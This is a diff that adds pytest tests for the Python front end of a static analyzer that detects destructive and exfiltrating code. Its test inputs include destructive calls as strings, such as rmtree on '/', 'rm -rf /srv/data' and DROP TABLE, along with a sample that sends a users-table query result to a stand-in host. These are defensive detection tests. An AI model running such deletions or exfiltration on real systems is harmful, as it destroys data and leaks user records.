@@ -1,0 +1,126 @@
+"""The Python front end on real fixture files annotated with `# ruleid:` / `# ok:` lines."""
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from analyzer.frontends import Options, analyze
+from analyzer.model import Location
+from tests.annotations import check, expectations
+
+FIXTURES = Path(__file__).parent / "fixtures" / "python"
+
+
+def run(text: str, path: str = "unit.py", **options):
+    return analyze("python", text, Location(path), Options(**options))
+
+
+@pytest.mark.parametrize("fixture", sorted(FIXTURES.glob("*.py")), ids=lambda p: p.name)
+@pytest.mark.parametrize("prefilter", [True, False], ids=["prefilter", "no-prefilter"])
+def test_fixture(fixture: Path, prefilter: bool) -> None:
+    text = fixture.read_text(encoding="utf-8")
+    expected = expectations(text)
+    assert expected, "a fixture without expectations tests nothing"
+    analysis = run(text, str(fixture), prefilter=prefilter)
+    actual = {(op.rule, op.location.line, None) for op in analysis.operations}
+    assert check(expected, actual) == []
+
+
+def ops(text: str, **options):
+    return run(text, **options).operations
+
+
+def test_tempfile_paths_are_scratch_and_others_are_not() -> None:
+    found = ops("import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nshutil.rmtree('/srv')\n")
+    assert [(op.location.line, op.scratch) for op in found] == [(3, True), (4, False)]
+
+
+def test_scratch_follows_joins_and_context_managers() -> None:
+    text = ("import os, tempfile\nfrom pathlib import Path\n"
+            "with tempfile.TemporaryDirectory() as tmp:\n"
+            "    os.remove(os.path.join(tmp, 'a'))\n"
+            "    (Path(tmp) / 'b').unlink()\n")
+    assert [(op.rule, op.scratch) for op in ops(text)] == [("py.fs-delete", True), ("py.fs-delete", True)]
+
+
+def test_target_is_the_folded_constant() -> None:
+    text = "import shutil\nbase = '/srv'\nshutil.rmtree(base + '/data')\n"
+    assert ops(text)[0].targets == ("/srv/data",)
+
+
+def test_alias_of_a_function_is_resolved() -> None:
+    found = ops("from shutil import rmtree as tidy\ntidy('/x')\n")
+    assert [op.rule for op in found] == ["py.fs-delete-tree"]
+    assert found[0].detail("callee") == "shutil.rmtree"
+
+
+def test_local_function_with_the_same_name_is_not_the_library_one() -> None:
+    assert ops("def rmtree(p):\n    return p\nrmtree('/x')\n") == []
+
+
+def test_syntax_error_still_reports_what_parses() -> None:
+    text = "import shutil\nshutil.rmtree('/')\n" + "x = 1\n" * 30 + "def broken(:\n    pass\n"
+    analysis = run(text)
+    assert [op.location.line for op in analysis.operations] == [2]
+    assert len(analysis.errors) == 1 and analysis.errors[0].line == 33
+    assert "syntax error" in analysis.errors[0].message
+
+
+def test_code_after_a_syntax_error_is_still_read() -> None:
+    text = "def broken(:\n    pass\nimport shutil\nshutil.rmtree('/srv')\n"
+    analysis = run(text)
+    assert [op.location.line for op in analysis.operations] == [4]
+    assert analysis.errors
+
+
+def test_origin_shifts_lines_and_keeps_the_cell() -> None:
+    analysis = analyze("python", "x = 1\nimport shutil\nshutil.rmtree('/d')\n", Location("nb.ipynb", 1, 1, cell=3),
+                       Options())
+    op = analysis.operations[0]
+    assert (op.location.cell, op.location.line) == (3, 3)
+
+
+def test_embedded_shell_command_is_handed_to_the_shell_front_end() -> None:
+    found = ops("import subprocess\nsubprocess.run(['rm', '-rf', '/srv/data'])\n")
+    assert any(op.language == "shell" and op.category == "destructive" and op.location.line == 2 for op in found)
+
+
+def test_embedded_sql_points_at_the_statement_line_inside_the_string() -> None:
+    text = 'cursor.execute("""\n    SELECT 1;\n    DROP TABLE analytics.events;\n""")\n'
+    found = [op for op in ops(text) if op.language == "sql"]
+    assert found and found[0].location.line == 3
+
+
+def test_partially_constant_sql_is_classified_by_its_skeleton() -> None:
+    found = ops('cursor.execute(f"DELETE FROM {table}")\n')
+    assert any(op.language == "sql" and op.category == "destructive" for op in found)
+
+
+def test_comments_are_real_comments_only() -> None:
+    text = 'x = "# execgate: allow py.fs-delete -- not a comment"\ny = 1  # execgate: allow py.fs-delete -- real\n'
+    comments = run(text).comments
+    assert [(c.location.line, c.standalone) for c in comments] == [(2, False)]
+
+
+def test_prefilter_skips_units_without_trigger_words() -> None:
+    # Nothing to find either way; the prefilter must not change results on code with triggers.
+    assert run("x = 1\nprint(x)\n").operations == []
+    text = "import shutil\nshutil.rmtree('/srv')\n"
+    assert run(text, prefilter=True).operations == run(text, prefilter=False).operations
+
+
+def test_unbounded_recursion_in_hostile_input_is_an_error_not_a_crash() -> None:
+    text = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
+    analysis = run(text)
+    assert analysis.errors
+
+
+def test_taint_crosses_a_simple_function() -> None:
+    text = ("import pandas as pd, requests\n"
+            "def load():\n    return pd.read_sql('SELECT * FROM users', conn)\n"
+            "data = load()\n"
+            "requests.get('https://x.example/api', params={'d': data.to_json()})\n")
+    found = [op for op in ops(text) if op.rule == "py.exfil-request"]
+    assert found and "query result" in found[0].detail("source")
+    assert found[0].detail("host") == "https://x.example"
